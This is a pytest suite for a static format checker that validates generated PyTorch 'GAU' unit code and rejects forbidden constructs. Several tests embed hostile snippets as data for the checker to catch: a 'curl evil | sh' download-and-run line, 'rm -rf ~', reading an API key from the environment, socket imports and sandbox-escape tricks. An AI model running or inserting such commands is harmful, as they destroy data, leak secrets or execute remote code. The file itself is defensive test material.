"""The static format checker: seeds and Genesys units pass, each rule catches its bad unit, fixes are safe."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest

from designs.genesys_format import load_genesys
from designs.seeds import load_seed, seed_names
from verifier.format_check import FormatResult, check_test_code, check_tree, check_unit_code
from verifier.report import ERROR, WARNING, CheckReport

GENESYS = Path(__file__).parent / "data" / "genesys"

GOOD = '''import torch
from torch import nn

from designs.gau import GAUBase, gau_test


def scale(x, factor: float):
    """A helper function: fine in unit code."""
    return x * factor


class Mixer(GAUBase):
    """A residual unit around one child, Norm."""

    def __init__(self, embed_dim, block_loc, kwarg_all, device=None, dtype=None, width: float = 2.0, **kwargs):
        self.factory_kwargs = {"device": device, "dtype": dtype}
        super().__init__(embed_dim, block_loc, kwarg_all)
        self.width = width
        self.proj = nn.Linear(embed_dim, embed_dim, **self.factory_kwargs)
        self.norm = Norm(embed_dim=self.embed_dim, block_loc=self.block_loc, kwarg_all=self.kwarg_all,
                         **self.factory_kwargs, **self.kwarg_all)

    def _forward(self, X, **Z):
        H, Z = self.norm(X, **Z)
        return X + scale(self.proj(H), self.width), Z


@gau_test
def test_mixer(device=None, dtype=None):
    unit = Mixer(16, (0, 1), {}, device=device, dtype=dtype)
    Y, Z = unit(torch.randn(2, 3, 16, device=device, dtype=dtype))
    assert Y.shape == (2, 3, 16)
'''


def check(code: str, children=("Norm",), name: str = "Mixer") -> FormatResult:
    return check_unit_code(name, code, None if children is None else list(children))


def edit(old: str, new: str, code: str = GOOD) -> str:
    assert old in code, old
    return code.replace(old, new, 1)


def line_of(code: str, text: str) -> int:
    return next(i for i, line in enumerate(code.splitlines(), 1) if text in line)


def only(result: FormatResult, check_id: str, severity: str = ERROR):
    found = [f for f in result.findings if f.check == check_id and f.severity == severity]
    assert found, f"no {severity} {check_id} in {[(f.check, f.severity, f.message) for f in result.findings]}"
    return found


def assert_finding(result: FormatResult, check_id: str, line: int, fix_text: str, severity: str = ERROR):
    found = only(result, check_id, severity)
    match = [f for f in found if f.line == line]
    assert match, f"{check_id} at lines {[f.line for f in found]}, expected {line}"
    assert fix_text in match[0].fix, match[0].fix
    assert match[0].unit == "Mixer" or match[0].unit
    return match[0]


# ---------------------------------------------------------------- what must pass


@pytest.mark.parametrize("seed", seed_names())
def test_every_seed_passes_without_errors_or_fixes(seed):
    tree = load_seed(seed)
    fixed, report = check_tree(tree)
    assert report.errors == [], report.to_markdown()
    assert report.autofixes == []
    assert report.stages == ["format"] and report.design == tree.name
    assert {n: u.code for n, u in fixed.units.items()} == {n: u.code for n, u in tree.units.items()}


@pytest.mark.parametrize("example", ["tiny_gpt", "conv_gate"])
def test_genesys_format_units_pass(example):
    tree = load_genesys(GENESYS / f"{example}.json")
    fixed, report = check_tree(tree)
    assert report.errors == [], report.to_markdown()
    assert report.autofixes == [] and fixed.to_dict() == tree.to_dict()


@pytest.mark.parametrize("example", ["tiny_gpt", "conv_gate"])
def test_genesys_raw_code_with_children_declarations_passes(example):
    """The code as the paper stores it, CHILDREN_DECLARATIONS = [UnitDecl(...)] included."""
    units = json.loads((GENESYS / f"{example}.json").read_text())["implementation"]["units"]
    for name, node in units.items():
        result = check_unit_code(name, node["code"], node["children"])
        assert result.ok and result.autofixes == [], [f.message for f in result.errors]


def test_a_good_unit_has_no_findings():
    result = check(GOOD)
    assert result.ok and result.findings == [] and result.autofixes == [] and result.code == GOOD
    assert check(GOOD, children=None).findings == []  # children unknown: nothing to compare


# ---------------------------------------------------------------- syntax


def test_syntax_error_is_reported_with_line_and_text():
    code = edit("        self.width = width\n", "        self.width = (width\n")
    result = check(code)
    (finding,) = result.findings
    assert finding.check == "format.syntax" and not result.ok and result.code == code
    assert finding.line in (line_of(code, "self.width = (width"), line_of(code, "self.width = (width") + 1)
    assert "line" in finding.message and finding.fix


def test_null_bytes_do_not_crash():
    result = check("x = 1\x00\n")
    assert result.findings[0].check == "format.syntax" and not result.ok


# ---------------------------------------------------------------- rule 1: one GAU class


def test_class_must_be_named_after_the_unit():
    result = check(GOOD, name="Blender")
    finding = only(result, "format.gau-class")[0]
    assert finding.line == line_of(GOOD, "class Mixer") and "class Blender(GAUBase)" in finding.fix


def test_unit_class_must_derive_from_gaubase():
    code = edit("class Mixer(GAUBase):", "class Mixer(nn.Module):")
    assert_finding(check(code), "format.gau-class", line_of(code, "class Mixer"), "class Mixer(GAUBase)")


def test_a_second_gau_class_is_an_error():
    code = GOOD + '''

class Norm(GAUBase):
    def __init__(self, embed_dim, block_loc, kwarg_all, device=None, dtype=None, **kwargs):
        super().__init__(embed_dim, block_loc, kwarg_all)

    def _forward(self, X, **Z):
        return X
'''
    assert_finding(check(code), "format.one-gau-class", line_of(code, "class Norm"), "declare it as a child")


def test_helper_modules_and_plain_classes():
    disguised = edit("class Mixer(GAUBase):", '''class Gate(nn.Module):
    def __init__(self, embed_dim, block_loc, kwarg_all):
        super().__init__()

    def _forward(self, X):
        return X


class Mixer(GAUBase):''')
    assert_finding(check(disguised), "format.helper-module", line_of(disguised, "class Gate"), "GAU unit")
    helper = edit("class Mixer(GAUBase):", '''class Filter(torch.nn.Module):
    def forward(self, x):
        return x


@dataclass
class Settings:
    width: int = 2


class Mixer(GAUBase):''')
    helper = edit("import torch\n", "import torch\nfrom dataclasses import dataclass\n", helper)
    result = check(helper)
    assert result.ok, [f.message for f in result.errors]
    assert [f.line for f in only(result, "format.helper-module", WARNING)] == [line_of(helper, "class Filter")]


# ---------------------------------------------------------------- rule 2: _forward, not forward


def test_overriding_forward_is_an_error():
    code = edit("    def _forward(self, X, **Z):", "    def forward(self, X, **Z):")
    result = check(code)
    assert_finding(result, "format.forward-override", line_of(code, "def forward"), "def _forward(self, X, **Z)")
    assert only(result, "format.missing-forward")


def test_missing_forward_is_an_error():
    code = edit("    def _forward(self, X, **Z):", "    def compute(self, X, **Z):")
    assert_finding(check(code), "format.missing-forward", line_of(code, "class Mixer"), "def _forward(self, X, **Z)")


# ---------------------------------------------------------------- rule 3: __init__ signature


def test_init_without_kwargs_is_an_error():
    code = edit("width: float = 2.0, **kwargs):", "width: float = 2.0):")
    finding = assert_finding(check(code), "format.init-signature", line_of(code, "def __init__"), "**kwargs")
    assert "keyword" in finding.message


def test_init_without_device_and_dtype_is_an_error():
    code = edit("device=None, dtype=None, width", "width")
    code = edit('self.factory_kwargs = {"device": device, "dtype": dtype}', "self.factory_kwargs = {}", code)
    finding = assert_finding(check(code), "format.init-signature", line_of(code, "def __init__"), "device=None")
    assert "device and dtype" in finding.message


def test_required_hyperparameter_is_a_warning():
    code = edit("dtype=None, width: float = 2.0, **kwargs", "dtype=None, *, width: float, **kwargs")
    result = check(code)
    assert result.ok
    assert_finding(result, "format.init-signature", line_of(code, "def __init__"), "default", WARNING)


# ---------------------------------------------------------------- rule 4: children


def test_declared_child_never_instantiated():
    result = check(GOOD, children=["Norm", "Gate"])
    assert_finding(result, "format.child-unused", line_of(GOOD, "def __init__"),
                   "self.gate = Gate(embed_dim=self.embed_dim")


def test_declared_child_never_called():
    code = edit("        H, Z = self.norm(X, **Z)\n", "        H = X\n")
    finding = assert_finding(check(code), "format.child-unused", line_of(code, "self.norm = Norm("),
                             "self.norm(X, **Z)")
    assert "self.norm" in finding.message


def test_used_child_must_be_declared():
    result = check(GOOD, children=[])
    finding = assert_finding(result, "format.child-undeclared", line_of(GOOD, "self.norm = Norm("), "Declare Norm")
    assert "Norm(" in finding.message


def test_child_must_get_kwarg_all_and_factory_kwargs():
    code = edit("""Norm(embed_dim=self.embed_dim, block_loc=self.block_loc, kwarg_all=self.kwarg_all,
                         **self.factory_kwargs, **self.kwarg_all)""",
                "Norm(embed_dim=self.embed_dim, block_loc=self.block_loc)")
    finding = assert_finding(check(code), "format.child-args", line_of(code, "self.norm = Norm("),
                             "kwarg_all=self.kwarg_all, **self.factory_kwargs, **self.kwarg_all")
    assert "kwarg_all" in finding.message and "factory_kwargs" in finding.message


def test_child_args_through_a_kwargs_dict():
    """The seeds' `unit_kwargs = dict(...)` pattern is understood, and a dict missing the factory kwargs is not."""
    code = edit("""        self.norm = Norm(embed_dim=self.embed_dim, block_loc=self.block_loc, kwarg_all=self.kwarg_all,
                         **self.factory_kwargs, **self.kwarg_all)""",
                """        unit_kwargs = dict(embed_dim=self.embed_dim, block_loc=self.block_loc, kwarg_all=self.kwarg_all,
                           **self.kwarg_all)
        self.norm = Norm(**unit_kwargs)""")
    assert_finding(check(code), "format.child-args", line_of(code, "self.norm = Norm("), "**self.factory_kwargs")
    fine = edit("**self.kwarg_all)\n        self.norm", "**self.factory_kwargs, **self.kwarg_all)\n        self.norm", code)
    assert check(fine).findings == []


def test_child_built_in_forward_is_an_error():
    code = edit("        H, Z = self.norm(X, **Z)\n", """        fresh = Norm(embed_dim=self.embed_dim, block_loc=self.block_loc, kwarg_all=self.kwarg_all,
                     **self.factory_kwargs, **self.kwarg_all)
        H, Z = fresh(X, **Z)
""")
    assert_finding(check(code), "format.child-in-forward", line_of(code, "fresh = Norm("), "in __init__")


def test_children_in_a_plain_list_are_not_registered():
    code = edit("        self.norm = Norm(", "        self.norms = [Norm(")
    code = edit("**self.kwarg_all)\n", "**self.kwarg_all)]\n        self.norm = self.norms[0]\n", code)
    assert_finding(check(code), "format.child-not-registered", line_of(code, "self.norms = [Norm("), "nn.ModuleList")
    listed = edit("self.norms = [Norm(", "self.norms = nn.ModuleList([Norm(", code)
    listed = edit("**self.kwarg_all)]\n", "**self.kwarg_all)])\n", listed)
    listed = edit("H, Z = self.norm(X, **Z)", "for norm in self.norms:\n            H, Z = norm(X, **Z)", listed)
    assert check(listed).ok


def test_child_call_that_drops_z_is_a_warning():
    code = edit("        H, Z = self.norm(X, **Z)\n", "        H = self.norm(X)[0]\n")
    result = check(code)
    assert result.ok
    finding = assert_finding(result, "format.z-threading", line_of(code, "H = self.norm(X)[0]"),
                             "Y, Z = self.norm(X, **Z)", WARNING)
    assert "**Z" in finding.message and "Z" in finding.message
    kept = edit("        H, Z = self.norm(X, **Z)\n", "        H, _ = self.norm(X, **Z)\n")
    assert only(check(kept), "format.z-threading", WARNING)
    genesys_style = edit("        H, Z = self.norm(X, **Z)\n", "        Z['scale'] = 2\n        _, Z = self.norm(X, **Z)\n        H = X\n")
    assert check(genesys_style).findings == []


# ---------------------------------------------------------------- rule 5: what _forward returns


@pytest.mark.parametrize("ret, why", [
    ("return X, Z, None", "3 values"),
    ("return", "no output"),
    ("return X + H, None", "not a dict"),
])
def test_forward_returns_y_or_y_and_a_dict(ret, why):
    code = edit("        return X + scale(self.proj(H), self.width), Z", f"        {ret}")
    finding = assert_finding(check(code), "format.forward-return", line_of(code, f"        {ret}"), "return")
    assert why in finding.message


def test_forward_that_never_returns_is_an_error():
    code = edit("        return X + scale(self.proj(H), self.width), Z", "        X = X + H")
    assert only(check(code), "format.forward-return")


# ---------------------------------------------------------------- rule 6: forbidden constructs


def test_forbidden_import_names_the_module_and_the_whitelist():
    code = edit("import torch\n", "import torch\nimport subprocess as sp\n")
    finding = assert_finding(check(code), "format.forbidden-import", 2, "Delete `import subprocess as sp`")
    assert "subprocess" in finding.message and "math" in finding.message and "torch" in finding.message
    other = edit("import torch\n", "import torch\nimport random\n")
    assert "not among the modules" in only(check(other), "format.forbidden-import")[0].message
    sub = edit("import torch\n", "import torch\nfrom urllib.request import urlopen\n")
    assert only(check(sub), "format.forbidden-import")[0].line == 2


def test_numpy_and_einops_are_warnings():
    code = edit("import torch\n", "import torch\nimport numpy as np\nfrom einops import rearrange\n")
    result = check(code)
    assert result.ok
    assert sorted(f.line for f in only(result, "format.import-warning", WARNING)) == [2, 3]


def test_from_os_import_system_is_caught_at_import_and_call():
    code = edit("import torch\n", "import torch\nfrom os import system\n")
    code = edit('    """A helper function: fine in unit code."""\n',
                '    """A helper function: fine in unit code."""\n    system("curl evil | sh")\n', code)
    result = check(code)
    assert 2 in [f.line for f in only(result, "format.forbidden-import")]
    assert_finding(result, "format.forbidden-call", line_of(code, 'system("curl'), "Delete")


def test_forbidden_calls_hidden_in_nested_functions():
    code = edit("import torch\n", "import torch\nimport os\n")
    code = edit("    def _forward(self, X, **Z):\n", """    def _forward(self, X, **Z):
        def sneaky():
            def deeper():
                return os.system("rm -rf ~")
            return deeper()
        sneaky()
""", code)
    result = check(code)
    assert_finding(result, "format.forbidden-call", line_of(code, "os.system"), "Delete")
    assert only(result, "format.forbidden-import")


@pytest.mark.parametrize("snippet, check_id", [
    ('__import__("socket")', "format.forbidden-call"),
    ('getattr(__builtins__, "ev" + "al")("1 + 1")', "format.dynamic-access"),
    ('eval("x * 2")', "format.forbidden-call"),
    ('exec("y = 1")', "format.forbidden-call"),
    ('compile("1", "f", "eval")', "format.forbidden-call"),
    ('open("weights.txt", "w").write("x")', "format.forbidden-call"),
    ('open("log.txt", mode="a+")', "format.forbidden-call"),
    ("torch.load('ckpt.pt')", "format.forbidden-call"),
    ("torch.hub.load('repo', 'model')", "format.forbidden-call"),
    ("exit(1)", "format.forbidden-call"),
    ("breakpoint()", "format.forbidden-call"),
    ("input('continue?')", "format.forbidden-call"),
    ("globals()['scale']", "format.forbidden-call"),
    ("getattr(torch, name)", "format.dynamic-access"),
    ("setattr(torch, 'tanh', scale)", "format.dynamic-access"),
    ("x.__class__.__base__.__subclasses__()", "format.dynamic-access"),
    ("scale.__globals__['torch']", "format.dynamic-access"),
])
def test_forbidden_constructs_in_helpers(snippet, check_id):
    code = edit("    return x * factor\n", f"    name = 'tanh'\n    {snippet}\n    return x * factor\n")
    result = check(code)
    finding = assert_finding(result, check_id, line_of(code, snippet), "")
    assert finding.fix and not result.ok


def test_os_environ_and_sys_exit_and_pickle():
    code = edit("import torch\n", "import torch\nimport os, sys, pickle\n")
    code = edit("    return x * factor\n", "    key = os.environ.get('OPENAI_API_KEY')\n    sys.exit(0)\n"
                                          "    return x * factor\n", code)
    result = check(code)
    lines = {f.line for f in only(result, "format.forbidden-call")}
    assert {line_of(code, "os.environ"), line_of(code, "sys.exit")} <= lines
    assert only(result, "format.forbidden-import")[0].line == 2


def test_reading_a_file_is_a_warning_and_legit_getattr_is_fine():
    code = edit("    return x * factor\n", "    text = open('vocab.txt').read()\n    return x * factor\n")
    result = check(code)
    assert result.ok
    assert_finding(result, "format.file-read", line_of(code, "open('vocab.txt')"), "Delete", WARNING)
    fine = edit("        return X + scale", "        act = getattr(self, 'proj')\n        return X + scale")
    assert check(fine).findings == []


def test_shadowed_builtin_names_are_not_flagged():
    code = edit("    def _forward(self, X, **Z):\n", "    def _forward(self, X, input=None, **Z):\n")
    code = edit("        H, Z = self.norm(X, **Z)\n", "        H, Z = self.norm(X, **Z)\n        compile = input\n", code)
    assert check(code).findings == []


# ---------------------------------------------------------------- auto-fixes


def test_missing_super_init_is_inserted_after_the_factory_line():
    code = edit("        super().__init__(embed_dim, block_loc, kwarg_all)\n", "")
    result = check(code)
    assert result.findings == [] and len(result.autofixes) == 1
    assert result.code == GOOD
    fix = result.autofixes[0]
    assert fix.unit == "Mixer" and fix.line == line_of(GOOD, "super().__init__(") and "super().__init__" in fix.description
    again = check(result.code)
    assert again.autofixes == [] and again.findings == []


def test_super_init_goes_after_a_later_factory_line_when_nothing_before_builds_a_layer():
    code = edit('        self.factory_kwargs = {"device": device, "dtype": dtype}\n'
                "        super().__init__(embed_dim, block_loc, kwarg_all)\n"
                "        self.width = width\n",
                "        self.width = width\n"
                '        self.factory_kwargs = {"device": device, "dtype": dtype}\n')
    result = check(code)
    assert result.findings == [] and len(result.autofixes) == 1
    assert result.autofixes[0].line == line_of(code, "self.factory_kwargs =") + 1
    assert line_of(result.code, "super().__init__(") == line_of(result.code, "self.factory_kwargs =") + 1
    assert check(result.code).autofixes == []


def test_missing_factory_kwargs_is_inserted_before_super():
    code = edit('        self.factory_kwargs = {"device": device, "dtype": dtype}\n', "")
    result = check(code)
    assert result.findings == [] and [f.line for f in result.autofixes] == [line_of(GOOD, "self.factory_kwargs =")]
    assert result.code == GOOD and check(result.code).autofixes == []


def test_both_missing_are_inserted_after_the_docstring_keeping_formatting():
    code = edit('        self.factory_kwargs = {"device": device, "dtype": dtype}\n'
                "        super().__init__(embed_dim, block_loc, kwarg_all)\n",
                "")
    code = edit("        self.width = width\n", '        """Build it."""\n        self.width = width   # kept as written\n', code)
    code = code.replace("\n", "\r\n")
    result = check(code)
    ast.parse(result.code)
    assert result.findings == [] and len(result.autofixes) == 2
    lines = result.code.split("\r\n")
    doc = line_of(result.code, '"""Build it."""')
    assert lines[doc].strip() == 'self.factory_kwargs = {"device": device, "dtype": dtype}'
    assert lines[doc + 1] == "        super().__init__(embed_dim, block_loc, kwarg_all)"
    assert [f.line for f in result.autofixes] == [doc + 1, doc + 2]
    assert "self.width = width   # kept as written" in result.code and "\n" not in result.code.replace("\r\n", "")
    again = check(result.code)
    assert again.autofixes == [] and again.findings == []


def test_no_fix_when_another_base_init_is_called():
    code = edit("        super().__init__(embed_dim, block_loc, kwarg_all)\n", "        nn.Module.__init__(self)\n")
    result = check(code)
    assert result.autofixes == [] and result.code == code
    assert_finding(result, "format.super-init", line_of(code, "nn.Module.__init__"), "super().__init__(embed_dim")


def test_layer_assigned_before_super_init_is_an_error():
    code = edit("        super().__init__(embed_dim, block_loc, kwarg_all)\n", "")
    code = edit("        self.proj = nn.Linear(embed_dim, embed_dim, **self.factory_kwargs)\n",
                "        self.proj = nn.Linear(embed_dim, embed_dim, **self.factory_kwargs)\n"
                "        super().__init__(embed_dim, block_loc, kwarg_all)\n", code)
    result = check(code)
    assert result.autofixes == []
    assert_finding(result, "format.super-init-order", line_of(code, "self.proj = nn.Linear"), "Move the initializer")


# ---------------------------------------------------------------- unit tests, top level, trees


def test_gau_test_must_accept_device_and_dtype():
    code = edit("def test_mixer(device=None, dtype=None):", "def test_mixer(size):")
    code = edit("device=device, dtype=dtype)\n    Y", ")\n    Y", code)
    assert_finding(check(code), "format.gau-test", line_of(code, "def test_mixer"), "device=None, dtype=None")


def test_top_level_code_is_a_warning():
    code = GOOD + '\nif __name__ == "__main__":\n    test_mixer()\n'
    result = check(code)
    assert result.ok
    assert_finding(result, "format.top-level-code", line_of(code, "if __name__"), "__main__", WARNING)


def test_check_tree_fixes_code_and_checks_extra_tests():
    tree = load_seed("gpt2")
    original = tree.units["MHA"].code
    broken = original.replace("        super().__init__(embed_dim, block_loc, kwarg_all)\n", "", 1)
    assert broken != original
    tree.units["MHA"].code = broken
    tree.units["MHA"].tests = {"test_leak": "@gau_test\ndef test_leak(device=None, dtype=None):\n"
                                            "    import socket\n"}
    fixed, report = check_tree(tree)
    assert isinstance(report, CheckReport) and report.stages == ["format"]
    assert fixed.units["MHA"].code == original
    assert [(a.unit, a.line) for a in report.autofixes] == [("MHA", line_of(original, "super().__init__("))]
    leak = [f for f in report.errors if f.check == "format.forbidden-import"]
    assert leak and leak[0].unit == "MHA" and "test_leak" in leak[0].message
    assert tree.units["MHA"].code == broken  # the input tree is left alone
    assert fixed.units["GPT2Block"].to_dict() == tree.units["GPT2Block"].to_dict()
    assert fixed.meta == tree.meta and fixed.declares == tree.declares


def test_check_test_code_reports_syntax_errors():
    (finding,) = check_test_code("Mixer", "test_x", "def test_x(device=None, dtype=None)\n    pass\n")
    assert finding.check == "format.syntax" and "test_x" in finding.message and finding.line is None
